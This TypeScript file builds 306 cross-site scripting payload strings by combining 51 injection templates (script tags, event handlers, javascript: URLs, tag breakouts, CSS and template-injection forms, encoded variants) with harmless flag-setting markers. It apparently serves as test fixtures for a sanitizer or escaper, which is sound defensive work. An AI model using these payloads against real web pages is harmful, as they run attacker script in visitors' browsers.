/** What somebody might want to run or add, each in words of ours. */
const acts = [
  "window.hit=1",
  "self['hit']=1",
  "hit=1//",
  "hit=`1`",
  "setTimeout('hit=1')",
  "import('data:text/javascript,hit=1')",
];

/** Ways of putting an act where text is expected: `ACT` stands for it. */
const templates = [
  "<script>ACT</script>",
  "<script type=module>ACT</script>",
  "<ScRiPt>ACT</sCrIpT>",
  "<img src=x onerror=ACT>",
  "<img src=x onerror='ACT'>",
  "<svg onload=ACT>",
  "<svg><script>ACT</script></svg>",
  "<svg><animate onbegin=ACT attributeName=x dur=1s>",
  "<svg><set attributeName=href to='javascript:ACT'>",
  "<svg><foreignObject><body onload=ACT></foreignObject></svg>",
  "<iframe srcdoc='<script>parent.ACT</script>'>",
  "<iframe src=javascript:ACT>",
  "<object data=javascript:ACT>",
  "<embed src=javascript:ACT>",
  "<a href=javascript:ACT>go</a>",
  "<form action=javascript:ACT><button>go",
  "<input autofocus onfocus=ACT>",
  "<details open ontoggle=ACT>",
  "<video><source onerror=ACT>",
  "<style>@import 'javascript:ACT'</style>",
  "<link rel=stylesheet href=javascript:ACT>",
  "<base href=javascript:ACT//>",
  "<meta http-equiv=refresh content='0;url=javascript:ACT'>",
  "<template><script>ACT</script></template>",
  "<math><mi xlink:href=javascript:ACT>x",
  "</title><script>ACT</script>",
  "</desc><script>ACT</script>",
  "</text></g></svg><img src onerror=ACT>",
  "</textarea><script>ACT</script>",
  "</style><script>ACT</script>",
  "</script><script>ACT</script>",
  "--><script>ACT</script><!--",
  "]]><script>ACT</script><![CDATA[",
  '"><b onclick=ACT>',
  "'><b onclick=ACT>",
  '" onmouseover="ACT" x="',
  "' onfocus='ACT' tabindex=0 x='",
  "` onclick=`ACT`",
  "javascript:ACT",
  " java\tscript:ACT",
  "\u0001javascript:ACT",
  "JaVaScRiPt:ACT",
  "data:text/html,<script>ACT</script>",
  "vbscript:ACT",
  "url(javascript:ACT)",
  "red;background:url(javascript:ACT)",
  "expression(ACT)",
  "{{constructor.constructor('ACT')()}}",
  "${ACT}",
  "&lt;script&gt;ACT&lt;/script&gt;",
  "&#60;img src=x onerror=ACT&#62;",
];

/** 306 strings of our own making. */
export const payloads: readonly string[] = templates.flatMap((template) =>
  acts.map((act) => template.replaceAll("ACT", () => act)),
);

/** A payload as a line of text: what nobody could see is replaced, and nothing else changes. */
export function lineOf(payload: string): string {
  return payload.replace("\t", " ").replace("\u0001", "\ufffd").trim();
}
